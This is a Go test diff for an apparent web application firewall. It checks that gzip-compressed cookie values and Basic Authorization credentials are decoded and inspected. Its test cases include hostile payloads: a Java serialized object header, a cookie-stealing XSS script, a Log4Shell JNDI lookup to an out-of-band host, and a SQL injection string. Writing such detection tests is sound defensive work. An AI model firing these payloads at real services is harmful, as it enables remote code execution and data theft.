@@ -3,6 +3,7 @@ package filter
 import (
 	"bytes"
 	"compress/flate"
+	"compress/gzip"
 	"encoding/base64"
 	"net/url"
 	"strings"
@@ -65,4 +66,56 @@ func FuzzInflateSAML(f *testing.F) {
 	f.Fuzz(func(t *testing.T, s string) {
 		inflateSAML(s)
 	})
+}
+
+func gzipB64(b []byte) string {
+	var buf bytes.Buffer
+	zw := gzip.NewWriter(&buf)
+	zw.Write(b)
+	zw.Close()
+	return base64.StdEncoding.EncodeToString(buf.Bytes())
+}
+
+// TestCompressedAndCredentialViews: a gzip'd Base64 value is judged as
+// what it inflates to; a Basic Authorization header by its user name and
+// password, reported without them.
+func TestCompressedAndCredentialViews(t *testing.T) {
+	eng := mustEngine(t, Config{})
+	java := []byte("\xac\xed\x00\x05sr\x00\x11java.util.HashMap\x05\x07\xda\xc1\xc3\x16`\xd1\x03\x00\x02F\x00\nloadFactor")
+	for _, c := range []struct {
+		cookie string
+		block  bool
+	}{
+		{"state=" + gzipB64(java), true},
+		{"state=" + gzipB64([]byte(`{"q":"<script>alert(document.cookie)</script>"}`)), true},
+		{"state=" + gzipB64([]byte(`{"tab":"orders","page":2,"filters":["paid","shipped"]}`)), false},
+	} {
+		r := newReq("GET", "http://app.example.com/dashboard", "", "")
+		r.Header.Set("Cookie", c.cookie)
+		expectVerdict(t, eng, r, c.cookie, c.block)
+	}
+	for _, c := range []struct {
+		cred  string
+		block bool
+	}{
+		{"${jndi:ldap://p4q7m.oast.site/basic}:password", true},
+		{"admin' OR '1'='1:x", true},
+		{"sk_live_4eC39HqLyjWDarjtT1zdp7dc:", false},
+		{"alice:correct horse battery staple", false},
+	} {
+		r := newReq("GET", "http://app.example.com/", "", "")
+		r.Header.Set("Authorization", "Basic "+base64.StdEncoding.EncodeToString([]byte(c.cred)))
+		d, err := eng.Inspect(r)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if d.Blocked != c.block {
+			t.Errorf("Basic %q: blocked=%v, want %v: %v", c.cred, d.Blocked, c.block, d.Matches)
+		}
+		for _, m := range d.Matches {
+			if strings.Contains(m.Fragment, "jndi") || strings.Contains(m.Fragment, "OR") {
+				t.Errorf("Basic credentials in a fragment: %q", m.Fragment)
+			}
+		}
+	}
 }
